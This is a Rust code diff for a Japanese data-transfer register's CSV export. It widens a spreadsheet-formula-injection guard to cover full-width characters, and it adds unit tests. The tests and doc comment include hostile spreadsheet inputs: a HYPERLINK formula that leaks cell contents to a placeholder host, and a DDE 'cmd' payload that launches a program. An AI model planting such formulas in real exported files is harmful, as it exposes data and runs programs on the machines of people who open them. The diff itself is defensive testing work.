@@ -303,11 +303,15 @@ pub fn write_csv<W: Write>(
 /// from outside (`Source-Organization`, `External-Identifier`, … of a hostile bag) and
 /// the register is opened in Excel: a cell starting with `=`, `+`, `-`, `@`, a tab or a
 /// carriage return is taken as a formula there (CSV injection, CWE-1236: `=HYPERLINK`
-/// leaking other cells, DDE `+cmd|…` running programs). As OWASP advises, such a cell
-/// gets a leading apostrophe, so Excel shows it as the text it is.
+/// leaking other cells, DDE `+cmd|…` running programs). Excel in Japanese also takes
+/// the full-width forms `＝` U+FF1D, `＋` U+FF0B, `－` U+FF0D and `＠` U+FF20, which a
+/// Japanese IME produces, as formula starts, so they are guarded too. As OWASP advises,
+/// such a cell gets a leading apostrophe, so Excel shows it as the text it is.
 pub fn not_a_formula(cell: &str) -> std::borrow::Cow<'_, str> {
     match cell.chars().next() {
-        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        Some(
+            '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}',
+        ) => format!("'{cell}").into(),
         _ => cell.into(),
     }
 }
@@ -328,6 +332,15 @@ mod tests {
             ("@SUM(1)", "'@SUM(1)"),
             ("\t=1", "'\t=1"),
             ("\r=1", "'\r=1"),
+            // Full-width forms, which Excel in Japanese evaluates as well.
+            (
+                "＝HYPERLINK(\"http://x/?\"&A1)",
+                "'＝HYPERLINK(\"http://x/?\"&A1)",
+            ),
+            ("＋cmd|' /C calc'!A0", "'＋cmd|' /C calc'!A0"),
+            ("－2＋3", "'－2＋3"),
+            ("＠SUM(1)", "'＠SUM(1)"),
+            ("大阪＝府", "大阪＝府"),
             ("ISOU-20261126-ABCDEFGH", "ISOU-20261126-ABCDEFGH"),
             ("大阪府がん登録室", "大阪府がん登録室"),
             ("", ""),
@@ -338,9 +351,13 @@ mod tests {
         let mut row = BTreeMap::new();
         row.insert("移送元", "=1+1".to_string());
         row.insert("移送ID", "ISOU-1".to_string());
+        row.insert("移送先", "＝1＋1".to_string());
         let mut out = Vec::new();
-        write_csv(&mut out, &["移送ID", "移送元"], &[row]).unwrap();
+        write_csv(&mut out, &["移送ID", "移送元", "移送先"], &[row]).unwrap();
         let text = String::from_utf8(out).unwrap();
-        assert_eq!(text, "\u{feff}移送ID,移送元\r\nISOU-1,'=1+1\r\n");
+        assert_eq!(
+            text,
+            "\u{feff}移送ID,移送元,移送先\r\nISOU-1,'=1+1,'＝1＋1\r\n"
+        );
     }
 }
